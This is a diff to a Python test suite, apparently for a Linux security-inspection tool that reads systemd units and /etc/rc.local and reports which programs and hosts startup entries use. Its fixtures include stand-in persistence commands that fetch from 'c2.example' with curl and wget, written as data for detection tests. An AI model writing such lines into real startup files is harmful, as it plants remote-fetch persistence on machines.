@@ -92,11 +92,32 @@ def test_a_command_on_several_lines_is_one() -> None:
             **{key: [] for key in ASKED}, "/proc/[0-9]*/comm": ["/proc/1/comm"], ASKED[-2]: [unit_path], rc_path: [rc_path],
         },
     }  # fmt: skip
-    told = {(one.place, one.programs, one.hosts) for one in linux(ReplayShell(recording)).startup or ()}
+    fact = linux(ReplayShell(recording))
+    assert not fact.unseen
+    told = {(one.place, one.programs, one.hosts) for one in fact.startup or ()}
     assert told == {
         (unit_path, ("sh", "curl"), ("c2.example",)), (unit_path, ("true",), ()), (unit_path, ("quay-lai",), ()),
         (rc_path, ("wget",), ("rc.example",)),
     }  # fmt: skip
+
+
+def test_a_host_that_is_not_read_is_said() -> None:
+    recording = {
+        "privileged": True,
+        "run": [{"argv": ["ss", "-H", "-antup"], "status": 0, "out": "", "err": ""}],
+        "read": {
+            "/etc/hosts": "",
+            "/etc/resolv.conf": "",
+            "/proc/1/comm": "systemd\n",
+            "/etc/rc.local": "wget -q c2.example/y\n",
+        },
+        "read_all": {**{key: [] for key in ASKED}, "/proc/[0-9]*/comm": ["/proc/1/comm"], "/etc/rc.local": ["/etc/rc.local"]},
+    }
+    fact = linux(ReplayShell(recording))
+    assert [(one.programs, one.hosts) for one in fact.startup or ()] == [(("wget",), ())]
+    assert [(one.field, one.reason) for one in fact.unseen] == [
+        ("startup[].hosts", "a line starts wget, and with which host is not read")
+    ]
 
 
 SECRET = "mat-khau-bi-mat"
